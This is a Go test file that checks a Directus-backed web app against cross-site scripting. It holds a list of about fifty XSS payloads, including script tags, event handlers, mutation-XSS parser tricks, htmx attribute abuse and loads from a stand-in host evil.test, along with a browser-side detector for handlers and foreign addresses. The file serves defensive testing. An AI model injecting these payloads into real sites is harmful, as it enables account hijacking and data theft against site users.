package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"hutch/sandbox"
)

// payloads try to run something, to load something from elsewhere, or to make
// the page do what its author did not write. What runs sets window.__xss or
// opens a dialog.
var payloads = []string{
	`<script>window.__xss=1</script>`,
	`"><script>window.__xss=1</script>`,
	`'><script>window.__xss=1</script>`,
	`</title><script>window.__xss=1</script>`,
	`</textarea></template></noscript><script>window.__xss=1</script>`,
	`<ScRiPt >window.__xss=1</sCrIpT>`,
	`<scr<script>ipt>window.__xss=1</scr</script>ipt>`,
	`<script src=https://evil.test/x.js></script>`,
	`<script src="/static/hutch.js" onload="window.__xss=1"></script>`,
	`<img src=x onerror=window.__xss=1>`,
	`<img src="x" onerror="alert('__xss')">`,
	`<img/src=/static/none onerror=window.__xss=1//`,
	`" onmouseover="window.__xss=1" autofocus onfocus="window.__xss=1" x="`,
	`' onfocus='window.__xss=1' autofocus='`,
	`<img src=//evil.test/pixel.png alt=pixel>`,
	`<img srcset="https://evil.test/pixel.png 1x" alt=pixel>`,
	`<picture><source srcset="https://evil.test/a.png"><img src="https://evil.test/b.png" alt=""></picture>`,
	`<svg onload=window.__xss=1>`,
	`<svg><script>window.__xss=1</script></svg>`,
	`<svg><a xlink:href="javascript:window.__xss=1"><text y="20">press</text></a></svg>`,
	`<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s></svg>`,
	`<math><mi xlink:href="javascript:window.__xss=1">press</mi></math>`,
	`<body onload=window.__xss=1>`,
	`<details open ontoggle=window.__xss=1><summary>press</summary></details>`,
	`<video src=x onerror=window.__xss=1></video><audio src=x onerror=window.__xss=1></audio>`,
	`<input autofocus onfocus=window.__xss=1>`,
	`<a href="javascript:window.__xss=1">press</a>`,
	"<a href=\"java\tscript:window.__xss=1\">press</a><a href=\"&#106;avascript:window.__xss=1\">press</a>",
	`<a href="data:text/html,<script>window.__xss=1</script>">press</a>`,
	`javascript:window.__xss=1`,
	`javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+window.__xss=1//'>`,
	`<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
	`<iframe src="javascript:parent.__xss=1"></iframe><object data="javascript:window.__xss=1"></object><embed src="https://evil.test/x.swf">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
	`<base href="https://evil.test/">`,
	`<link rel="stylesheet" href="https://evil.test/x.css">`,
	`<style>@import "https://evil.test/x.css"; body { background: url(https://evil.test/x.png) }</style>`,
	`<p style="background:url(https://evil.test/x.png);position:fixed;inset:0">over everything</p>`,
	`<form action="https://evil.test/" id="signin"><input name="password"><button formaction="javascript:window.__xss=1">press</button></form>`,
	`<div hx-get="/blog" hx-trigger="load" hx-target="body">htmx</div>`,
	`<div hx-on:load="window.__xss=1" hx-on="load: window.__xss=1" data-hx-on:click="window.__xss=1" hx-trigger="load">htmx</div>`,
	`<div hx-vals="js:{x: window.__xss=1}" data-hx-post="/logout" hx-trigger="load">htmx</div>`,
	`{{1234*5678}} ${1234*5678} <%= 1234*5678 %> #{1234*5678} {{.Frame}}`,
	`<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>`,
	`<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__xss=1 src>">`,
	"<img src=\"x` `<script>window.__xss=1</script>\"` `>",
	`<template><script>window.__xss=1</script></template><dialog open>press</dialog>`,
	`<form-field class="field"><template><img src=x onerror=window.__xss=1></template></form-field>`,
}

// stamp is a small screen: there is less to paint where nobody looks.
var stamp = screen{400, 400, "light"}

// Whatever editors, visitors and members write: nothing of it runs, and the
// browser has nothing to report.
func TestNothingForeignRuns(t *testing.T) {
	t.Run("stored", func(t *testing.T) { t.Parallel(); storedPayloads(t) })
	t.Run("typed", func(t *testing.T) { t.Parallel(); typedPayloads(t) })
	t.Run("asked for", func(t *testing.T) { t.Parallel(); payloadsInAddresses(t) })
}

// storedPayloads stand in every field that editors, and members by Directus'
// own means, can write.
func storedPayloads(t *testing.T) {
	up := startSandbox(t, sandbox.Options{})
	b := startApp(t, up, nil).browser(t, scripted)
	b.tab.showOn(t, stamp)
	b.signIn(member)
	change := func(path string, fields map[string]any) {
		t.Helper()
		if err := up.admin.Patch(t.Context(), path, fields); err != nil {
			t.Fatal(err)
		}
	}
	var known []struct{ ID string }
	if err := up.admin.Get(t.Context(), "/users", url.Values{"filter[email][_eq]": {member.email}}, &known); err != nil || len(known) != 1 {
		t.Fatal(known, err)
	}
	postsAre()(t, up, b.app)
	fieldOfEachKind(t, up, b.app)
	for i, payload := range payloads {
		change("/items/global", map[string]any{"title": payload, "description": payload})
		change("/items/pages/about", map[string]any{"title": payload, "content": payload})
		change("/items/authors/1", map[string]any{"name": payload})
		change("/users/"+known[0].ID, map[string]any{"first_name": payload, "last_name": payload, "title": payload, "location": payload, "description": payload, "language": payload})
		change("/users/"+known[0].ID, map[string]any{"pronouns": payload, "about_your_rabbits": payload, "interests": []string{payload}})
		post := map[string]any{"slug": payload, "title": payload, "content": payload, "author": 1, "publish_date": fmt.Sprintf("2026-%02d-01", i%12+1)}
		if err := up.admin.Post(t.Context(), "/items/posts", post, nil); err != nil {
			t.Fatal(err)
		}
		for _, path := range []string{"/", "/pages/about", "/blog/" + url.PathEscape(payload), "/profile"} {
			b.open(path)
			b.mustBeHarmless("stored", payload)
		}
		b.showDescribedImage(payload)
		b.showDescribedField(payload)
	}
	for page := range len(payloads) / 12 {
		b.open(fmt.Sprintf("/blog?page=%d", page+1))
		b.mustBeHarmless("stored", "all of them")
	}
}

// showDescribedImage shows a post whose image has the payload for a description.
// The sandbox lets nobody describe an image anew.
func (b *browser) showDescribedImage(payload string) {
	b.t.Helper()
	post, err := json.Marshal([]any{map[string]any{
		"slug": "p", "title": payload, "content": payload, "author": map[string]any{"name": payload},
		"image": map[string]any{"id": "5f0e1b52-2a0c-4c5e-9d1f-0b8a6f4e1a0b", "description": payload},
	}})
	if err != nil {
		b.t.Fatal(err)
	}
	b.app.wire.breakOn("GET /items/posts", func(w http.ResponseWriter, _ *http.Request) { writeJSON(w, string(post)) })
	defer b.app.wire.mend()
	b.open("/blog/p")
	b.mustBeHarmless("describing an image,", payload)
}

// showDescribedField shows a profile with a field that has the payload for
// everything that its maker could write. The sandbox lets nobody describe a field
// anew.
func (b *browser) showDescribedField(payload string) {
	b.t.Helper()
	for _, readOnly := range []bool{false, true} {
		fields, err := json.Marshal([]any{map[string]any{"collection": "directus_users", "field": "pronouns", "type": "string", "schema": map[string]any{}, "meta": map[string]any{
			"note": payload, "readonly": readOnly, "translations": []any{map[string]any{"language": "en-US", "translation": payload}},
			"options": map[string]any{"choices": []any{map[string]any{"text": payload, "value": payload}}},
		}}})
		if err != nil {
			b.t.Fatal(err)
		}
		b.app.wire.breakOn("GET /fields/directus_users", func(w http.ResponseWriter, _ *http.Request) { writeJSON(w, string(fields)) })
		b.open("/profile")
		b.app.wire.mend()
		if !strings.Contains(b.text(), squeeze(payload)) {
			b.t.Errorf("the profile does not show what was written of its field: %q", payload)
		}
		b.mustBeHarmless("describing a field,", payload)
	}
}

// typedPayloads stand in every field of every form that comes back with what was
// typed.
func typedPayloads(t *testing.T) {
	up := startSandbox(t, sandbox.Options{})
	site := startApp(t, up, nil)
	fieldOfEachKind(t, up, site)
	b := site.browser(t, scripted)
	b.tab.showOn(t, stamp)
	for _, path := range []string{"/signup", "/signin", "/password/forgot", "/profile", "/profile/email", "/profile/delete"} {
		if path == "/profile" {
			b.signIn(member)
		}
		b.open(path)
		form := "#" + b.doc.Find("main form:has(input:not([type=hidden], [type=file]))").AttrOr("id", "?")
		for _, payload := range payloads {
			fill := map[string]string{}
			for _, field := range b.doc.Find(form).Find("[type=text], [type=email], [type=password], textarea").EachIter() {
				typed := strings.ReplaceAll(payload, "\t", " ") // Tab goes on to the next field
				if most, err := strconv.Atoi(field.AttrOr("maxlength", "")); err == nil {
					typed = typed[:min(most, len(typed))]
				}
				fill[field.AttrOr("name", "")] = typed
			}
			if len(fill) == 0 {
				t.Fatalf("%s has nothing to type into", path)
			}
			b.submit(form, fill)
			b.wantStatus(http.StatusUnprocessableEntity)
			b.mustBeHarmless("typed", payload)
		}
	}
}

// payloadsInAddresses come with a link that somebody has sent.
func payloadsInAddresses(t *testing.T) {
	b := startApp(t, startSandbox(t, sandbox.Options{}), nil).browser(t, scripted)
	b.tab.showOn(t, stamp)
	for _, payload := range payloads {
		for _, path := range []string{
			"/pages/" + url.PathEscape(payload), "/signin?redirectedFrom=" + url.QueryEscape(payload),
			"/verify?token=" + url.QueryEscape(payload), "/password/reset?token=" + url.QueryEscape(payload), "/invite?token=" + url.QueryEscape(payload),
		} {
			b.open(path)
			b.mustBeHarmless("asked for", payload)
		}
	}
}

// mustBeHarmless looks at what a payload has become. What the browser reports,
// dialogs included, is a failure anyway.
func (b *browser) mustBeHarmless(how, payload string) {
	b.t.Helper()
	for _, harm := range ask[[]string](b.t, b.tab, harmful) {
		b.t.Errorf("%s: %s %q: %s", b.path, how, payload, harm)
	}
	if strings.Contains(b.raw, fmt.Sprint(1234*5678)) {
		b.t.Errorf("%s: %s %q was worked out", b.path, how, payload)
	}
	for _, address := range b.tab.requestsElsewhere() {
		b.t.Errorf("%s: %s %q made a request to %s", b.path, how, payload, address)
	}
}

// harmful finds what runs or could, whoever has to press it first.
const harmful = `() => {
	const found = []
	const name = element => element.outerHTML.slice(0, 160)
	if (window.__xss !== undefined) found.push("it ran")
	for (const element of document.querySelectorAll("iframe, object, embed, base, style, math, meta[http-equiv], link[rel~=stylesheet]:not([href^='/static/']), script:not([src^='/static/'])")) found.push("there is " + name(element))
	for (const root of [document, ...[...document.querySelectorAll("template")].map(template => template.content)]) for (const element of root.querySelectorAll("*")) for (const {name: attribute, value} of element.attributes) {
		const scheme = value.replace(/[\u0000-\u0020]/g, "").toLowerCase()
		if (/^on/i.test(attribute) || /hx-on/i.test(attribute)) found.push("a handler: " + name(element))
		if (attribute === "style") found.push("a style: " + name(element))
		if (/^(data-)?hx-/.test(attribute) && element.closest(".prose")) found.push("htmx in the content: " + name(element))
		if (/^(href|src|srcset|action|formaction|xlink:href|data|poster)$/.test(attribute) && /^(javascript|data|vbscript):/.test(scheme)) found.push("code in an address: " + name(element))
		if (/^(src|srcset|action|formaction|data|poster)$/.test(attribute) && /^(https?:)?\/\//.test(scheme)) found.push("an address elsewhere: " + name(element))
	}
	return found
}`
